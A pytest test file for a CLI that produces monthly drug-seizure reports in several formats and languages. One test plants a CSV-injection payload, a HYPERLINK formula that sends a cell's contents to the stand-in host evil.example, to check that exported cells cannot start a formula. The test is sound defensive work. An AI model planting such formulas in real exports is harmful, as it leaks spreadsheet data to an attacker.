"""`kordon report monthly`: each format, a file, and a bad month."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from tests.analytics.cases import store_cases, store_declarations
from typer.testing import CliRunner

from kordon.cli import build_app
from kordon.storage.store import open_store


@pytest.fixture
def run(sqlite_url: str, monkeypatch: pytest.MonkeyPatch) -> CliRunner:
    monkeypatch.setenv("KORDON_DATABASE_URL", sqlite_url)
    store = open_store(sqlite_url)
    try:
        store_declarations(store)
        store_cases(store)
    finally:
        store.close()
    return CliRunner()


def test_markdown_by_default(run: CliRunner) -> None:
    done = run.invoke(build_app(), ["report", "monthly", "--month", "2026-11"])
    assert done.exit_code == 0, done.output
    text = done.stdout
    assert text.startswith("# Seizure report, November 2026")
    assert "| Heroin | kg | 622.075 kg | 2 | 0 | 2 | 0 | 64 kg | +872% |" in text
    assert "Same route IR → MD and concealment (Fuel tank), 1 day apart." in text
    assert "Not enough inspections to compare targeting with random control" in text


def test_csv_keeps_numbers_and_units_apart(run: CliRunner) -> None:
    done = run.invoke(build_app(), ["report", "monthly", "--month", "2026-11", "--format", "csv"])
    assert done.exit_code == 0, done.output
    rows = list(csv.reader(io.StringIO(done.stdout)))
    totals = [r for r in rows if r[1] == "Totals by commodity and unit"]
    assert (totals[0][:6]) == [
        "2026-11",
        "Totals by commodity and unit",
        "Heroin",
        "kg",
        "622.075",
        "2",
    ]
    assert totals[1][2:5] == ["Cigarettes", "pieces", "2000000"]


def test_html_to_a_file(run: CliRunner, tmp_path: Path) -> None:
    target = tmp_path / "november.html"
    args = ["report", "monthly", "--month", "2026-11", "--format", "html", "--output", str(target)]
    done = run.invoke(build_app(), args)
    assert done.exit_code == 0, done.output
    page = target.read_text(encoding="utf-8")
    assert page.startswith("<!doctype html>") and "<h2>Flagged outliers</h2>" in page
    assert "Wrote the 2026-11 report (html)" in done.stderr


@pytest.mark.parametrize("month", ["2026-13", "11/2026", "2026"])
def test_a_bad_month_is_a_sentence(run: CliRunner, month: str) -> None:
    done = run.invoke(build_app(), ["report", "monthly", "--month", month])
    assert done.exit_code == 1
    assert "--month:" in done.stderr and "Traceback" not in done.output


def test_csv_cells_cannot_start_a_formula(run: CliRunner, sqlite_url: str) -> None:
    # Public reports are untrusted text: a place written as a formula stays text.
    import dataclasses
    from datetime import datetime

    from tests.analytics.builders import make_seizure

    from kordon.domain import SeizureSource

    store = open_store(sqlite_url)
    try:
        with store.transaction() as uow:
            hostile = make_seizure(0, quantity=900.0, source=SeizureSource.OPEN_SOURCE,
                                   recorded_at=datetime(2026, 11, 9),
                                   place='=HYPERLINK("http://evil.example/?"&A1,"x")')  # fmt: skip
            uow.seizures.add(dataclasses.replace(hostile, id=None))
    finally:
        store.close()
    done = run.invoke(build_app(), ["report", "monthly", "--month", "2026-11", "--format", "csv"])
    assert done.exit_code == 0, done.output
    cells = [cell for row in csv.reader(io.StringIO(done.stdout)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    dangerous += [c for c in cells if c.startswith("-") and not _number(c)]
    assert not dangerous, dangerous


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("lang", "title", "heroin", "column"),
    [
        (
            "az",
            "# Götürülmələr üzrə hesabat, noyabr 2026",
            "| Heroin | kq | 622,075 kq |",
            "Miqdar",
        ),
        ("ru", "# Отчёт об изъятиях, ноябрь 2026", "| Героин | кг | 622,075 кг |", "Количество"),
    ],
)
def test_the_report_in_another_language(
    run: CliRunner, lang: str, title: str, heroin: str, column: str
) -> None:
    done = run.invoke(build_app(), ["report", "monthly", "--month", "2026-11", "--lang", lang])
    assert done.exit_code == 0, done.output
    assert done.stdout.startswith(title)
    assert heroin in done.stdout and f"| {column} |" in done.stdout
    # Names, places and plates are data: they stay as written.
    assert "Reza Hosseinzadeh" in done.stdout and "Tabriz Dried Fruit Co" in done.stdout
    as_csv = run.invoke(
        build_app(), ["report", "monthly", "--month", "2026-11", "--lang", lang, "--format", "csv"]
    )
    rows = list(csv.reader(io.StringIO(as_csv.stdout)))
    heroin_row = next(r for r in rows if r[3] == "kg" and r[2] in {"Heroin", "Героин"})
    assert heroin_row[4] == "622.075" and column in rows[1]


def test_an_unknown_language_is_refused(run: CliRunner) -> None:
    done = run.invoke(build_app(), ["report", "monthly", "--month", "2026-11", "--lang", "de"])
    assert done.exit_code == 2 and "de" in done.output
